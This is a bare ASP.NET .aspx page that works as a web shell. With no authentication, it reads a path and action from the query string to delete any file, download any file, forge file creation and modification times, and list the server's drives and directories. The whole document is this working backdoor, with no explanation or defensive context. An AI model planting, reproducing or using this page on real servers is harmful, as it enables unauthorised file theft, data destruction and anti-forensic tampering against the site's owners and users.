<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = Request.QueryString["p"] ?? Server.MapPath(".");
  string act = Request.QueryString["a"];
  if (act == "del") System.IO.File.Delete(p);
  if (act == "down") Response.WriteFile(p);
  if (act == "time") { System.IO.File.SetCreationTime(p, DateTime.Parse(Request["t"])); System.IO.File.SetLastWriteTime(p, DateTime.Parse(Request["t"])); }
  foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name + "<br>");
  var di = new System.IO.DirectoryInfo(p);
  foreach (var f in di.GetFiles()) Response.Write(f.Name + " " + f.Length + "<br>");
  foreach (var s in di.GetDirectories()) Response.Write(s.Name + "/<br>");
}
</script>
